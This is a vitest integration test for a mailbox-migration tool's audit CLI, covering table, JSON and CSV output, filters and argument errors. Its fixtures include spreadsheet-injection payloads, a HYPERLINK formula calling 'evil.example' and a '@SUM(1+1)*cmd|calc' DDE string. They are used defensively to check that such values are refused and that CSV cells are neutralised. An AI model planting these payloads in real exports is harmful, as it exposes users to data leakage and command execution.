import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../src/log/logger.js';
import { AuditLog } from '../../src/pipeline/audit-log.js';
import { BullMigrationService } from '../../src/pipeline/bull-migration-service.js';
import type { PlatformDirectory } from '../../src/pipeline/dependencies.js';
import { DEFAULT_QUEUE_NAME, Keys } from '../../src/pipeline/queue-names.js';
import { SecretBox } from '../../src/pipeline/secret-box.js';
import { RedisServer } from '../../src/redis/redis-server.js';

/** `migrate-mailbox audit` as a process, the way the README starts it, over a trail written beforehand. */
const ROOT = join(fileURLToPath(import.meta.url), '../../..');
const PREFIX = `audit-cli-${process.pid}`;
const FORMULA = '=HYPERLINK("http://evil.example/?leak","click")';

let server: RedisServer;
let redis: Redis;
let middle: string;

function audit(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(ROOT, 'scripts/cli.mjs'), 'audit', ...args], {
      cwd: ROOT,
      env: { ...process.env, REDIS_URL: server.url, QUEUE_PREFIX: PREFIX, LOG_LEVEL: 'warn' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout!.on('data', (c: Buffer) => (stdout += c.toString()));
    child.stderr!.on('data', (c: Buffer) => (stderr += c.toString()));
    child.once('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

beforeAll(async () => {
  server = await RedisServer.start();
  redis = new Redis(server.connection as never);
  const key = new Keys(PREFIX, DEFAULT_QUEUE_NAME).audit();
  // ten days ago, by an earlier process
  const old = Date.now() - 10 * 24 * 3600_000;
  await redis.xadd(key, `${old}-0`, 'at', new Date(old).toISOString(), 'action', 'request', 'outcome', 'ok', 'actorKind', 'slack', 'actorId', 'U-OLD', 'address', 'old@mydomain.ovh', 'destination', 'emailpro-sb22222-1', 'jobId', 'mig-old@mydomain.ovh');
  // a request whose address is a spreadsheet formula, refused by the real service (the path a user's typing takes)
  const service = new BullMigrationService({ connection: server.connection, prefix: PREFIX, directory: {} as PlatformDirectory, secrets: SecretBox.random(), logger: createLogger('silent') });
  try {
    expect(await service.submit({ sourceAddress: FORMULA, destinationService: 'emailpro-sb22222-1', requester: { kind: 'slack', id: 'U-MALLORY' } })).toMatchObject({ ok: false });
  } finally {
    await service.close();
  }
  await new Promise((r) => setTimeout(r, 30));
  middle = new Date().toISOString();
  await new Promise((r) => setTimeout(r, 30));
  const log = new AuditLog(redis, key, { retentionDays: 365 });
  await log.append({ action: 'reject', outcome: 'ok', actorKind: 'slack', actorId: 'U-APPROVER', address: 'john.smith@mydomain.ovh', destination: 'emailpro-sb22222-1', jobId: 'mig-john.smith@mydomain.ovh', detail: 'comment: "not now", sorry' });
  await log.append({ action: 'undo', outcome: 'refused', actorKind: 'cli', actorId: 'ops', address: 'jane.doe@mydomain.ovh', jobId: 'mig-jane.doe@mydomain.ovh', reason: '@SUM(1+1)*cmd|calc' });
}, 60_000);

afterAll(async () => {
  redis?.disconnect();
  await server?.stop();
});

describe('migrate-mailbox audit', () => {
  it('prints a table of every entry, oldest first', async () => {
    const result = await audit([]);
    expect(result.code, result.stderr).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^WHEN\s+WHO\s+ACTION\s+MAILBOX\s+DESTINATION\s+BATCH\s+OUTCOME$/);
    expect(lines.slice(1).map((l) => l.split(/\s+/).slice(1, 4))).toEqual([
      ['slack:U-OLD', 'request', 'old@mydomain.ovh'],
      ['slack:U-MALLORY', 'request', FORMULA.split(/\s+/)[0]],
      ['slack:U-APPROVER', 'reject', 'john.smith@mydomain.ovh'],
      ['cli:ops', 'undo', 'jane.doe@mydomain.ovh'],
    ]);
    expect(lines[4]).toMatch(/refused: @SUM\(1\+1\)\*cmd\|calc$/);
  }, 60_000);

  it('--json is one array that parses, with the fields of each entry', async () => {
    const result = await audit(['--json']);
    expect(result.code, result.stderr).toBe(0);
    const entries = JSON.parse(result.stdout) as Record<string, unknown>[];
    expect(entries).toHaveLength(4);
    expect(entries[1]).toMatchObject({ action: 'request', outcome: 'refused', address: FORMULA, destination: 'emailpro-sb22222-1', actor: { kind: 'slack', id: 'U-MALLORY' }, reason: expect.stringMatching(/^source: /), batchId: null });
    expect(entries[2]).toMatchObject({ action: 'reject', jobId: 'mig-john.smith@mydomain.ovh', detail: 'comment: "not now", sorry', at: expect.stringMatching(/Z$/), id: expect.stringMatching(/^\d+-\d+$/) });
  }, 60_000);

  it('--csv: a header row, RFC 4180 quoting, and formula cells turned into text', async () => {
    const result = await audit(['--csv']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout.split('\r\n')[0]).toBe('at,actor_kind,actor_id,action,outcome,reason,address,destination,job_id,batch_id,detail,id');
    const rows = parse(result.stdout, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(4);
    expect(rows[1]!.address).toBe(`'${FORMULA}`);
    expect(rows[3]!.reason).toBe(`'@SUM(1+1)*cmd|calc`);
    expect(rows[2]!.detail).toBe('comment: "not now", sorry');
    // no cell a spreadsheet would evaluate
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(result.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
  }, 60_000);

  it('--address and --since (a date, or a date and time) filter the entries', async () => {
    const byAddress = await audit(['--address', 'JANE.doe@mydomain.ovh', '--json']);
    expect(byAddress.code, byAddress.stderr).toBe(0);
    expect((JSON.parse(byAddress.stdout) as { action: string }[]).map((e) => e.action)).toEqual(['undo']);

    const yesterday = new Date(Date.now() - 24 * 3600_000).toISOString().slice(0, 10);
    const sinceDate = await audit(['--since', yesterday, '--json']);
    expect(sinceDate.code, sinceDate.stderr).toBe(0);
    expect((JSON.parse(sinceDate.stdout) as { actor: { id: string } }[]).map((e) => e.actor.id)).toEqual(['U-MALLORY', 'U-APPROVER', 'ops']);

    const sinceTime = await audit(['--since', middle, '--csv']);
    expect(sinceTime.code, sinceTime.stderr).toBe(0);
    expect((parse(sinceTime.stdout, { columns: true }) as { actor_id: string }[]).map((r) => r.actor_id)).toEqual(['U-APPROVER', 'ops']);

    const none = await audit(['--address', 'nobody@mydomain.ovh']);
    expect(none).toMatchObject({ code: 0, stdout: 'no audit entries\n' });
  }, 60_000);

  it('a bad --since, an unknown option or --csv with --json: exit 2, saying what to type', async () => {
    const badDate = await audit(['--since', 'last tuesday']);
    expect(badDate.code).toBe(2);
    expect(badDate.stdout).toBe('');
    expect(badDate.stderr).toMatch(/--since "last tuesday" is not a date: type a date such as 2026-03-01 or a date and time such as 2026-03-01T14:30:00Z/);
    const badDay = await audit(['--since', '2026-02-30']);
    expect(badDay.code).toBe(2);
    const unknown = await audit(['--from', '2026-01-01']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/Unknown option '--from'[\s\S]*usage: migrate-mailbox audit \[--since DATE\]/);
    const both = await audit(['--csv', '--json']);
    expect(both.code).toBe(2);
    expect(both.stderr).toMatch(/choose one of --csv and --json/);
  }, 60_000);
});
